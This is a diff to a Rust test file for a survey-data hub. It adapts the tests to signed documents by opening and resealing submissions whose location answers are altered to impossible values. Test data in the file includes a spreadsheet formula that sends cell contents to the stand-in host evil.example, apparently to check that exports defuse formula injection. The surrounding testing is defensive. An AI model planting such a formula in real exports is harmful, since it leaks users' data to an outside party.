@@ -14,6 +14,7 @@ use minga_core::{AnswerPath, DocId, FormRef, GeoPoint, ReviewDocument, ReviewSta
 use minga_hub::access::DocKind;
 use minga_hub::admin;
 use minga_hub::storage::{DocumentWrite, HubStorage, SqliteStorage};
+use minga_sync::signatures::{open_signed_document, seal_signed_document};
 use serde_json::Value as Json;
 use std::path::Path;
 use std::process::Command;
@@ -21,15 +22,17 @@ use std::process::Command;
 const PROJECT: &str = "imbabura";
 const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?\"&B2)";
 
-/// The submission's bytes with its `location` answer's parts replaced as they might arrive by
-/// sync from a device that did not check them (the local API refuses them when typed).
-fn with_stored_point(bytes: &[u8], latitude: f64, accuracy: f64) -> Vec<u8> {
+/// The submission (signed, as a phone exports it) with its `location` answer's parts replaced
+/// as they might arrive by sync from a device that did not check them (the local API refuses
+/// them when typed), by another implementation's (unkeyed) actor.
+fn with_stored_point(signed: &[u8], latitude: f64, accuracy: f64) -> Vec<u8> {
+    let (bytes, signatures) = open_signed_document(signed).unwrap();
     let mut doc = AutoCommit::load(bytes).unwrap();
     let (_, answers) = doc.get(ROOT, "answers").unwrap().unwrap();
     let (_, location) = doc.get(&answers, "location").unwrap().unwrap();
     doc.put(&location, "latitude", latitude).unwrap();
     doc.put(&location, "accuracy", accuracy).unwrap();
-    doc.save()
+    seal_signed_document(&doc.save(), &signatures)
 }
 
 /// What the hub holds: ids of the submissions written with a good location, with an impossible
@@ -93,6 +96,7 @@ fn store_documents(data: &Path) -> Stored {
             subject: None,
             changes,
             decoded: None,
+            signatures: Default::default(),
         })
         .collect();
     storage.write_documents(PROJECT, &writes, None).unwrap();
@@ -164,6 +168,7 @@ fn review(data: &Path, submission: &str, state: ReviewState, comment: &str) {
         subject: Some(submission.into()),
         changes: review.save(),
         decoded: None,
+        signatures: Default::default(),
     };
     storage.write_documents(PROJECT, &[write], None).unwrap();
 }
